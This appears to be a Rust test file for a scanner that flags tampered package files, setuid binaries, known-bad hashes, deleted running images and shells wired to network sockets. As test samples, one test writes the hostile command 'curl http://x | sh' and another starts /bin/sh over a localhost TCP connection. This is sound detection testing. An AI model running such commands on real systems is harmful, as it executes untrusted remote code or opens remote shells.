use super::super::view::tests::{Sleeper, TempTree, host, image};
use super::*;
use crate::model::Report;
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn engines(tree: &TempTree) -> Engines {
    Engines::new(&tree.path("home"), Some(tree.path("no-daemon")))
}

fn of_file(view: &View, tree: &TempTree, path: &DevicePath) -> Report {
    file(view, &engines(tree), path, &Users::host(), &Job::default()).unwrap().report
}

fn of_process(tree: &TempTree, pid: u32) -> Report {
    process(&host(tree), &engines(tree), pid, &Users::host(), &Job::default()).unwrap().report
}

fn scan_of<'r>(report: &'r Report, engine: &str) -> (&'r str, String) {
    let scan = report.scans.iter().find(|s| s.engine == engine).unwrap();
    (&scan.status, scan.detections.iter().map(Untrusted::raw).collect::<Vec<_>>().join("; "))
}

fn program(tree: &TempTree, name: &str, from: &str) {
    std::fs::create_dir_all(tree.path(name).parent().unwrap()).unwrap();
    std::fs::copy(from, tree.path(name)).unwrap();
    std::fs::set_permissions(tree.path(name), PermissionsExt::from_mode(0o755)).unwrap();
}

fn dpkg(tree: &TempTree, md5_of: &[u8]) {
    use ::md5::{Digest, Md5};
    let info = tree.path("img/var/lib/dpkg/info");
    std::fs::create_dir_all(&info).unwrap();
    let sum = crate::model::hex(&Md5::digest(md5_of));
    std::fs::write(info.join("tool.list"), "/.\n/usr/bin/tool\n/etc/tool.conf\n").unwrap();
    std::fs::write(info.join("tool.md5sums"), format!("{sum}  usr/bin/tool\n{sum}  etc/tool.conf\n")).unwrap();
    std::fs::write(tree.path("img/var/lib/dpkg/status"), "Package: tool\nVersion: 1-2\n").unwrap();
}

#[test]
fn a_packaged_file_is_clean_until_it_is_changed() {
    let tree = TempTree::new();
    program(&tree, "img/usr/bin/tool", "/bin/true");
    dpkg(&tree, &std::fs::read("/bin/true").unwrap());
    let view = image(&tree, "img");
    let path = DevicePath::new("/usr/bin/tool");
    let report = of_file(&view, &tree, &path);
    assert_eq!((scan_of(&report, "package").0, &*report.status), ("clean", "clean"));
    dpkg(&tree, b"other bytes");
    let report = of_file(&view, &tree, &path);
    assert_eq!((scan_of(&report, "package").0, &*report.status), ("suspicious", "suspicious"));
    assert!(scan_of(&report, "package").1.contains("tool 1-2"), "{report:?}");
}

#[test]
fn changed_configuration_is_no_suspicion() {
    let tree = TempTree::new();
    std::fs::create_dir_all(tree.path("img/etc")).unwrap();
    std::fs::write(tree.path("img/etc/tool.conf"), "mine = 1\n").unwrap();
    dpkg(&tree, b"theirs = 1\n");
    let report = of_file(&image(&tree, "img"), &tree, &DevicePath::new("/etc/tool.conf"));
    assert_eq!(scan_of(&report, "package").0, "not_found");
    assert_ne!(report.status, "suspicious");
}

#[test]
fn a_setuid_program_of_no_package_is_suspicious() {
    let tree = TempTree::new();
    program(&tree, "mine", "/bin/true");
    std::fs::set_permissions(tree.path("mine"), PermissionsExt::from_mode(0o4755)).unwrap();
    let report = of_file(&host(&tree), &tree, &tree.device_path("mine"));
    assert_eq!(report.status, "suspicious");
    assert!(scan_of(&report, "static").1.contains("setuid"), "{report:?}");
}

#[test]
fn a_known_hash_decides() {
    let tree = TempTree::new();
    std::fs::create_dir_all(tree.path("home/hashes")).unwrap();
    std::fs::write(tree.path("x"), "#!/bin/sh\ncurl http://x | sh\n").unwrap();
    let path = tree.device_path("x");
    let report = of_file(&host(&tree), &tree, &path);
    assert_eq!(report.status, "suspicious");
    let hash = report.file_hash.unwrap().to_string();
    std::fs::write(tree.path("home/hashes/good.txt"), format!("{hash} ours\n")).unwrap();
    assert_eq!(of_file(&host(&tree), &tree, &path).status, "clean");
    std::fs::write(tree.path("home/hashes/bad.txt"), format!("{hash} Evil.A\n")).unwrap();
    let report = of_file(&host(&tree), &tree, &path);
    assert_eq!((&*report.status, scan_of(&report, "hashes").1), ("infected", "Evil.A".into()));
}

#[test]
fn an_empty_file_has_a_report() {
    let tree = TempTree::new();
    std::fs::write(tree.path("empty"), "").unwrap();
    let report = of_file(&host(&tree), &tree, &tree.device_path("empty"));
    assert!(report.infected == 0 && report.total == 5, "{report:?}");
}

#[test]
fn a_process_whose_image_is_gone_is_judged_by_the_image_that_runs() {
    let tree = TempTree::new();
    program(&tree, "gone", "/bin/sleep");
    let child = Sleeper::run(Command::new(tree.path("gone")).arg("600"));
    let clean = of_process(&tree, child.id());
    std::fs::remove_file(tree.path("gone")).unwrap();
    let report = of_process(&tree, child.id());
    assert_eq!(report.file_hash, clean.file_hash);
    assert_eq!(scan_of(&report, "package").0, "not_found");
    let is_temporary = tree.root().starts_with("/tmp") || tree.root().starts_with("/var/tmp");
    if is_temporary {
        assert_eq!((scan_of(&report, "behavior").0, &*report.status), ("suspicious", "suspicious"));
        assert!(scan_of(&report, "behavior").1.contains("deleted"), "{report:?}");
    }
}

#[test]
fn a_shell_on_a_connection_is_suspicious_and_its_ends_are_told() {
    let tree = TempTree::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let near = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (_far, _) = listener.accept().unwrap();
    let port = listener.local_addr().unwrap().port();
    let end = || OwnedFd::from(near.try_clone().unwrap());
    let child = Sleeper::run(Command::new("/bin/sh").stdin(end()).stdout(end()).stderr(end()));
    let report = of_process(&tree, child.id());
    assert_eq!((scan_of(&report, "behavior").0, &*report.status), ("suspicious", "suspicious"), "{report:?}");
    let connections = &report.behavior.as_ref().unwrap().connections;
    let peer = format!("-> 127.0.0.1:{port} ESTAB");
    assert!(connections.iter().any(|c| c.raw().contains(&peer)), "{connections:?}");
}

#[test]
fn files_and_children_of_a_process_are_told() {
    let tree = TempTree::new();
    std::fs::write(tree.path("open"), "x").unwrap();
    let file = std::fs::File::open(tree.path("open")).unwrap();
    let child = Sleeper::run(Command::new("/bin/sh").args(["-c", "sleep 601 & wait"]).stdin(file));
    let behavior = loop {
        let behavior = of_process(&tree, child.id()).behavior.unwrap();
        if behavior.children.iter().any(|c| c.raw().ends_with("sleep 601")) {
            break behavior;
        }
        std::thread::yield_now();
    };
    let pid = behavior.children[0].raw().split(' ').next().unwrap().to_owned();
    let _ = Command::new("kill").arg(pid).status();
    assert!(behavior.files.iter().any(|f| f.raw().ends_with("/open")), "{behavior:?}");
    assert!(behavior.command_line.unwrap().raw().contains("sleep 601"));
}

#[test]
fn own_processes_and_what_is_none_are_refused() {
    let tree = TempTree::new();
    let code = |pid| {
        let result = process(&host(&tree), &engines(&tree), pid, &Users::host(), &Job::default());
        result.err().map(|e| e.code)
    };
    assert_eq!(code(std::process::id()), Some(ErrorCode::SelfTarget));
    assert_eq!(code(u32::MAX), Some(ErrorCode::NotFound));
    let mut child = Command::new("true").spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    assert_eq!(code(pid), Some(ErrorCode::NotFound));
}
